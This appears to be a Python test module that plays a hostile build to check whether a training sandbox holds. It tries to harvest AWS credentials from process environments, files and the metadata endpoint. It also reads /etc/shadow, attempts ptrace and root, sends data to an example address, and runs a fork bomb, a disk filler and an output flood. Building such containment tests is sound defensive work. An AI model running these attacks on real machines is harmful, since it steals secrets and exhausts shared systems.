"""What a hostile build tries against the machine that it runs on.

Each attack logs what it got, or that it got nothing, and ends the build: as a crash, so that the trainer tells the end
of its log. Those that take without end go on until they are stopped.
"""

import contextlib
import ctypes
import http.client
import os
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NoReturn

ATTACK_CODE = 66
GOT, REFUSED = "GOT", "REFUSED"
"""How a line of the log begins that tells what came of an attempt."""

METADATA_ADDRESS = "169.254.169.254"
CREDENTIALS_ADDRESS = "169.254.170.2"
"""Where AWS gives credentials to whoever runs in a container."""

_ELSEWHERE = (("192.0.2.1", 443), ("1.1.1.1", 53))  # RFC 5737's example, and a public name server
_PATIENCE_SECONDS = 2.0
_SECRETS = ("AWS_", "SM_", "SAGEMAKER_", "GAMEDOJO_", "TRAINING_JOB")
_PLACES = ("/opt/ml/model", "/opt/ml/checkpoints", "/etc", "/usr/bin", "/root", "/var/spool/cron", "/proc/1")
_BLOCK_BYTES = 1024 * 1024
_SEIZE, _URING_SETUP = 0x4206, 425  # ptrace(2), io_uring_setup(2) on x86-64

Log = Callable[[str], None]


def read_credentials(log: Log) -> NoReturn:
    """Look for keys in the environments of all processes, in the usual files, and where AWS gives them out."""
    for source, text in _environments():
        names = sorted({line.partition("=")[0] for line in text.split("\0") if line.startswith(_SECRETS)})
        if names:
            log(f"{GOT} {', '.join(names)} from {source}")
    for path in (Path("~/.aws/credentials").expanduser(), Path("/root/.aws/credentials"), Path("/etc/shadow")):
        _attempt(log, str(path), path.read_bytes)
    for address in (METADATA_ADDRESS, CREDENTIALS_ADDRESS):
        _attempt(log, f"http://{address}", lambda address=address: _get(address))  # type: ignore[misc]
    _end(log, "read-credentials")


def write_outside(log: Log) -> NoReturn:
    """Write beside the program, into the trainer's folders, and where a system keeps what it starts."""
    own = Path(sys.argv[0]).resolve()
    trainers = Path(f"/proc/{os.getppid()}/cwd")
    for folder in (own.parent, trainers, *map(Path, _PLACES)):
        _attempt(log, str(folder), lambda folder=folder: _write_into(folder))  # type: ignore[misc]
    _attempt(log, str(own), lambda: own.open("r+b").close())
    _attempt(log, "the build's place", lambda: own.parent.rename(own.parent.with_name("moved")))
    _attempt(log, "root", lambda: os.setuid(0))
    _end(log, "write-outside")


def reach_network(log: Log) -> NoReturn:
    """Connect to machines elsewhere, ask for a name, send without connecting."""
    for address in ((METADATA_ADDRESS, 80), *_ELSEWHERE):
        _attempt(log, f"{address[0]}:{address[1]}", lambda address=address: _connect(address))  # type: ignore[misc]
    _attempt(log, "the name aws.amazon.com", lambda: socket.getaddrinfo("aws.amazon.com", 443))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        _attempt(log, "a datagram", lambda: datagrams.sendto(b"secret", _ELSEWHERE[0]))
    _end(log, "reach-network")


def take_over(log: Log) -> NoReturn:
    """Reach into the processes that hold it, and become root."""
    parent, libc = os.getppid(), ctypes.CDLL(None, use_errno=True)
    _attempt(log, "its parent, by a signal", lambda: os.kill(parent, signal.SIGCONT))
    _attempt(log, "its parent's memory", lambda: Path(f"/proc/{parent}/mem").open("r+b").close())
    _attempt(log, "its parent, by ptrace", lambda: _call(libc.ptrace, _SEIZE, parent, None, None))
    _attempt(log, "its parent's descriptors", lambda: list(Path(f"/proc/{parent}/fd").iterdir()))
    _attempt(log, "root", lambda: os.setresuid(0, 0, 0))
    _attempt(log, "io_uring", lambda: _call(libc.syscall, _URING_SETUP, 8, bytes(120)))
    _attempt(log, "a second name for /etc/shadow", lambda: os.link("/etc/shadow", Path.home() / "shadow"))
    _end(log, "take-over")


def fill_disk(log: Log) -> NoReturn:
    """Write without end, one file after the other."""
    log("filling the disk")
    block, number = bytes(_BLOCK_BYTES), 0
    while True:
        number += 1
        with contextlib.suppress(OSError), Path.home().joinpath(f"fill-{number}").open("wb") as file:
            for _ in range(16):
                file.write(block)
                file.flush()


def fork_without_end(log: Log) -> NoReturn:
    """Start processes without end, each in a session of its own and deaf to what it may be deaf to."""
    log("forking")
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                os.setsid()
                time.sleep(3600)
                os._exit(0)
        time.sleep(0.001)


def flood_output(log: Log) -> NoReturn:
    """Print without end."""
    log("flooding")
    line = b"All work and no play makes Jack a dull boy\n" * 24_000
    while True:
        with contextlib.suppress(OSError):
            os.write(1, line)


ATTACKS: dict[str, Callable[[Log], NoReturn]] = {
    "read-credentials": read_credentials,
    "write-outside": write_outside,
    "reach-network": reach_network,
    "take-over": take_over,
    "fill-disk": fill_disk,
    "fork-without-end": fork_without_end,
    "flood-output": flood_output,
}


def _environments() -> Iterator[tuple[str, str]]:
    for folder in Path("/proc").iterdir():
        if folder.name.isdigit() or folder.name == "self":
            with contextlib.suppress(OSError):
                yield str(folder / "environ"), (folder / "environ").read_text("utf-8", "replace")


def _attempt(log: Log, what: str, attempt: Callable[[], object]) -> None:
    try:
        attempt()
    except (OSError, http.client.HTTPException):
        return
    log(f"{GOT} {what}")


def _call(function: Callable[..., int], *arguments: object) -> None:
    if function(*arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")


def _write_into(folder: Path) -> None:
    """And take it away again: a machine that lets it in is not to be harmed by a test of it."""
    file = folder / f"gamedojo-attack-{os.getpid()}"
    file.touch(exist_ok=False)
    file.unlink()


def _get(address: str) -> bytes:
    connection = http.client.HTTPConnection(address, timeout=_PATIENCE_SECONDS)
    with contextlib.closing(connection):
        connection.request("GET", "/latest/meta-data/iam/security-credentials/")
        return connection.getresponse().read()


def _connect(address: tuple[str, int]) -> None:
    socket.create_connection(address, timeout=_PATIENCE_SECONDS).close()


def _end(log: Log, attack: str) -> NoReturn:
    log(f"{REFUSED} whatever is not named above: {attack}")
    os._exit(ATTACK_CODE)
